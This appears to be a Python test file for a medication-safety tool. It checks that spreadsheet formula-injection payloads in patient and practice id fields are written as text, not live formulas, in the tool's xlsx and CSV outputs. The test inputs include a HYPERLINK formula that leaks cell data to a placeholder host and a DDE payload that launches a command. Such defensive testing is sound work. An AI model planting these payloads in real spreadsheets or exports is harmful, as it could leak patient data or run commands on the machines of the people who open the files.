"""Formula payloads in scan inputs stay text in every output a pharmacist opens (issue 13, the
spreadsheet attack), through a real `python -m medsopt scan` process."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import polars as pl

# Patient and practice ids an attacker controls in an extract; each gets warfarin with an NSAID
# (PINCER-D), so they reach the findings and the worklist.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "  =1+1",
    "+SUM(A1:A2)",
    "@cmd",
    "=cmd|' /C calc'!A0",
]
EVALUATED = ("=", "+", "-", "@")


def write_inputs(folder: Path) -> tuple[Path, Path]:
    dispensing = pl.DataFrame(
        {
            "patient_id": [p for p in HOSTILE for _ in range(2)],
            "code": ["319733000", "329806007"] * len(HOSTILE),  # warfarin, naproxen
            "dispensed_on": ["2026-06-01"] * (2 * len(HOSTILE)),
            "quantity": ["28"] * (2 * len(HOSTILE)),
            "days_supply": ["28"] * (2 * len(HOSTILE)),
            "practice_id": ["=PRACTICE()"] * (2 * len(HOSTILE)),
        }
    )
    patients = pl.DataFrame(
        {
            "patient_id": HOSTILE,
            "age_years": ["78"] * len(HOSTILE),
            "sex": ["female"] * len(HOSTILE),
            "practice_id": ["-2+3"] * len(HOSTILE),
        }
    )
    dispensing.write_csv(folder / "dispensing.csv")
    patients.write_csv(folder / "patients.csv")
    return folder / "dispensing.csv", folder / "patients.csv"


def test_formula_payloads_are_text_in_the_workbook_and_neutralised_in_csv(tmp_path: Path) -> None:
    dispensing, patients = write_inputs(tmp_path)
    out = tmp_path / "out"
    done = subprocess.run(
        [sys.executable, "-m", "medsopt", "scan", "--dispensing", str(dispensing),
         "--patients", str(patients), "--as-of", "2026-06-30", "--out", str(out)],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode in (0, 3), done.stderr
    workbook = openpyxl.load_workbook(out / "worklist.xlsx")
    texts: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert {p.strip() for p in HOSTILE} <= texts  # the ids are kept, as text
    checked = 0
    for path in sorted(out.glob("*.csv")):
        frame = pl.read_csv(path, infer_schema=False)
        for column in frame.columns:
            for value in frame[column].drop_nulls():
                assert not value.lstrip(" \t\r\n").startswith(EVALUATED), (path.name, value)
                checked += 1
    assert checked > 0
